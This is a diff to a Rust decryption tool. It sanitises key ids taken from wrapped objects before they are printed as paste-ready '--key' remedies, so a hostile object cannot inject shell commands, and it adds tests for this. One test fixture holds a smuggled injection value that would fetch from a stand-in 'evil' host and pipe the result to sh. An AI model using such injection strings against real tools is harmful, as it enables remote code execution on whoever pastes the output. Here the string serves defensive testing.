@@ -230,9 +230,9 @@ impl Keyring for Nothing {
 /// What to say if these wrapped keys are for others than the keys given, which are of these kinds.
 fn other_key(given: &[&str], wrapped: &[WrappedKey]) -> Option<String> {
     let remedy = |wrapped: &WrappedKey| {
-        let id = wrapped.key_id()?;
+        let id = pasteable(wrapped)?;
         match wrapped.provider() {
-            AWS_KMS => Some(format!("use --key {AWS_KMS}:{id}")),
+            AWS_KMS => Some(format!("use --key {AWS_KMS}:{id}, if that key is one of yours")),
             LOCAL if given.contains(&LOCAL) => {
                 Some(format!("name the key file that holds the key {id}: --key local:PATH"))
             }
@@ -250,6 +250,13 @@ fn other_key(given: &[&str], wrapped: &[WrappedKey]) -> Option<String> {
     of_given.chain(wrapped).find_map(remedy)
 }
 
+/// The id of a wrapping key, if a shell takes it for a word: it comes from the object, and what is
+/// printed as a remedy gets pasted.
+fn pasteable(wrapped: &WrappedKey) -> Option<&str> {
+    let is_plain = |b: u8| b.is_ascii_alphanumeric() || b":/_.-".contains(&b);
+    wrapped.key_id().filter(|id| id.bytes().all(is_plain))
+}
+
 /// The keys, as named in this message of the library, that matched and that KMS did not use.
 fn refused(text: &str) -> Option<Vec<&str>> {
     let calls = text.split("KMS Decrypt with ").skip(1);
@@ -260,7 +267,7 @@ fn refused(text: &str) -> Option<Vec<&str>> {
 /// The other keys that open what is wrapped so.
 fn alternative(refused: &[&str], wrapped: &[WrappedKey]) -> Option<String> {
     let key = |wrapped: &WrappedKey| {
-        let id = wrapped.key_id()?;
+        let id = pasteable(wrapped)?;
         let name = id.rsplit('/').next()?; // replicas of a key share it
         match wrapped.provider() {
             AWS_KMS if refused.iter().any(|key| key.contains(name)) => None,
@@ -321,6 +328,17 @@ mod tests {
     }
 
     #[test]
+    fn no_remedy_is_a_command_of_whoever_wrote_the_object() {
+        for (id, is_named) in [("arn:aws:kms:x:1:key/a-b", true), ("x;curl${IFS}evil|sh", false)] {
+            for provider in [AWS_KMS, LOCAL, RSA] {
+                let wrapped = [WrappedKey::new(provider, id, [1]).unwrap()];
+                assert_eq!(other_key(&[LOCAL], &wrapped).is_some(), is_named, "{provider}");
+                assert_eq!(alternative(&[], &wrapped).is_some(), is_named, "{provider}");
+            }
+        }
+    }
+
+    #[test]
     fn the_remedy_names_the_key_that_is_needed() {
         let kms = WrappedKey::new("aws-kms", "arn:1", [1]).unwrap();
         let local = WrappedKey::new("local", "ab12", [1]).unwrap();
@@ -328,12 +346,18 @@ mod tests {
         let remedy = |given, wrapped: &[&WrappedKey]| {
             other_key(&[given], &wrapped.iter().map(|w| (*w).clone()).collect::<Vec<_>>()).unwrap()
         };
-        assert_eq!(remedy(LOCAL, &[&kms]), "use --key aws-kms:arn:1");
-        assert_eq!(remedy(AWS_KMS, &[&kms]), "use --key aws-kms:arn:1");
+        assert_eq!(remedy(LOCAL, &[&kms]), "use --key aws-kms:arn:1, if that key is one of yours");
+        assert_eq!(
+            remedy(AWS_KMS, &[&kms]),
+            "use --key aws-kms:arn:1, if that key is one of yours"
+        );
         assert!(remedy(AWS_KMS, &[&local]).contains("use --key local or local:PATH"));
         assert!(remedy(LOCAL, &[&local]).contains("holds the key ab12"));
         assert!(remedy(LOCAL, &[&kms, &local]).contains("holds the key ab12"));
-        assert_eq!(remedy(RSA, &[&kms, &local]), "use --key aws-kms:arn:1");
+        assert_eq!(
+            remedy(RSA, &[&kms, &local]),
+            "use --key aws-kms:arn:1, if that key is one of yours"
+        );
         assert!(remedy(RSA, &[&kms, &rsa]).contains("has the SHA-256 9f8e"));
     }
 
